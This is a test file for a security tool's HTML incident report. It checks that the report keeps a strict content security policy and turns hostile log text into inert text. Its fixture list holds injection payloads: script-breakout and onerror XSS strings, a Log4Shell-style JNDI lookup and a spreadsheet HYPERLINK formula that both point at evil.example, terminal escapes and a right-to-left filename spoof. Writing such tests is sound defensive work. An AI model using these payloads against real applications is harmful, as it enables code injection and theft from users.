import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { resultOf } from "../../../test/browser/results.ts";
import { htmlReport } from "../html.ts";
import type { ScanResult } from "../model.ts";
import { SCRIPT, STYLE } from "./assets.ts";
import { pageOf } from "./page-of.ts";

const HOSTILE = [
  "</script><script>alert(1)</script>",
  "</style></noscript></title><script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  "<!--<script>",
  "]]><svg onload=alert(1)>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the lookup is meant as it stands
  "${jndi:ldap://evil.example/a}",
  "\u001b[31mred\u001b]0;title\u0007",
  "\u202egnp.exe\u2066\u200b",
  `=HYPERLINK("http://evil.example","x")`,
  "\ud800 \udc00",
  "__proto__",
  "javascript:alert(1)",
  "\u2028\u2029\0",
];

/** The tags that the file itself is made of, wherever text from a log may stand. */
const OWN_TAG =
  /<\/?(?:html|head|meta|title|style|body|div|p|h1|h2|article|b|ul|li|script|noscript)(?: [a-z-]+="[^"<>]*")*>|<!doctype html>/g;

describe("the file", () => {
  const html = htmlReport(resultOf());

  test("lets only its own script and style run, known by their hashes", () => {
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
    expect(policy.split("; ")).toEqual([
      "default-src 'none'",
      `style-src '${sha256(between(html, "<style>", "</style>"))}'`,
      `script-src '${sha256(between(html, "<script>", "</script>"))}'`,
      "base-uri 'none'",
      "form-action 'none'",
      "require-trusted-types-for 'script'",
      "trusted-types 'none'",
    ]);
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<style>"));
  });

  test("refers to nothing outside itself", () => {
    expect(html).not.toMatch(/\b(?:src|srcset|action|data|poster|background)="/i);
    expect(html).not.toMatch(/@import|url\(|<link|<base|<iframe|<object|<embed/i);
    expect(html.match(/https?:\/\/[^"'\s]*/g)).toEqual(["http://www.w3.org/2000/svg"]);
  });

  test("has a script that makes no markup and runs no text", () => {
    expect(SCRIPT).not.toMatch(
      /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|setAttribute\("on/,
    );
  });

  test("can be read without its script: the verdict and the incidents stand in it as text", () => {
    const plain = between(html, '<div id="report" class="plain">', "</div>");
    expect(plain).toContain("<h1>3 incidents; 2 need you now; 1 seems to have worked.</h1>");
    expect(plain).toContain("<h2>SQL injection at GET /v1/search by 192.0.2.0</h2>");
    expect(plain).toContain(
      "critical, risk 99 · succeeded · 2 Mar 2026 00:00 to 01:00 UTC · 10 events · probing → exploit",
    );
    expect(plain).toContain("<b>What to do:</b> Block it while you look.");
  });

  test("is the same for the same result", () => {
    expect(htmlReport(resultOf())).toBe(html);
  });
});

describe("text from a log is never markup", () => {
  test.each(HOSTILE)("%j in every field", (hostile) => {
    expectInert(resultOf({ text: () => hostile }));
    expectInert(resultOf({ text: () => hostile, incidents: 110, detectionsEach: 1, samplesEach: 1 }));
  });

  test("whatever it is", () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "binary" })), {
      minLength: 1,
      maxLength: 4,
    });
    fc.assert(
      fc.property(text, (parts) => expectInert(resultOf({ text: () => parts.join("") }))),
      { numRuns: 60 },
    );
  });
});

function expectInert(result: ScanResult): void {
  const html = htmlReport(result);
  const data = between(html, '<script type="application/json" id="report-data">', "</script>");
  expect(JSON.parse(data)).toEqual(JSON.parse(JSON.stringify(pageOf(result))));
  // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may be left
  expect(data).not.toMatch(/[<>&\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
  const rest = html.replace(data, "").replace(SCRIPT, "").replace(STYLE, "");
  expect(rest.replace(OWN_TAG, "")).not.toMatch(/[<>]/);
  expect(Buffer.from(rest).toString()).toBe(rest);
}

function between(text: string, start: string, end: string): string {
  const from = text.indexOf(start) + start.length;
  return text.slice(from, text.indexOf(end, from));
}

function sha256(text: string): string {
  return `sha256-${createHash("sha256").update(text).digest("base64")}`;
}
